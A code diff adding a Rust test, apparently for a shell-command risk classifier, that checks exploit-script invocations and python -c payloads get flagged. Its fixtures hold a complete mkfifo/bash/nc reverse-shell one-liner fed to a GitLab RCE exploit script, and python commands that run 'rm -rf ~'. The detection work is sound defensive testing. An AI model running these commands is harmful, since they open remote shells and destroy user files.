@@ -488,3 +488,37 @@ fn certipy_reads_ask_and_abuse_denies() {
         Severity::High,
     );
 }
+
+/// Passed (ocs part 7, the session's one critical miss): `python3
+/// gitlab_13_10_2_rce.py -t URL -u user -p password -c 'rm /tmp/f;mkfifo
+/// /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc IP 8443 >/tmp/f'`. `rce` as a
+/// word of a script's name names a remote code execution exploit, as
+/// `exploit` and `poc` do.
+#[test]
+fn a_script_named_rce_is_an_exploit() {
+    flagged_each(
+        &[
+            "python3 gitlab_13_10_2_rce.py -t http://gitlab.target:8081 -u user -p password -c 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 10.0.0.1 8443 >/tmp/f'",
+            "python3 confluence-rce.py http://10.0.0.5:8090",
+            // An exploit's name before a `-c` was not judged (found
+            // writing this test); the code after it still is, since `-W
+            // x.py -c CODE` hands python the code.
+            "python3 exploit.py -t http://x -c 'id'",
+        ],
+        Category::RemoteCodeExec,
+        Severity::Medium,
+    );
+    // python's own -c is still its code, before a script's name or after
+    // an option's value that looks like one.
+    flagged_each(
+        &[
+            "python3 -c 'import os; os.system(\"rm -rf ~\")' x.py",
+            "python3 -W x.py -c 'import os; os.system(\"rm -rf ~\")'",
+        ],
+        Category::Destructive,
+        Severity::High,
+    );
+    for c in ["python3 source.py", "python3 force.py --dry-run"] {
+        clean(c);
+    }
+}
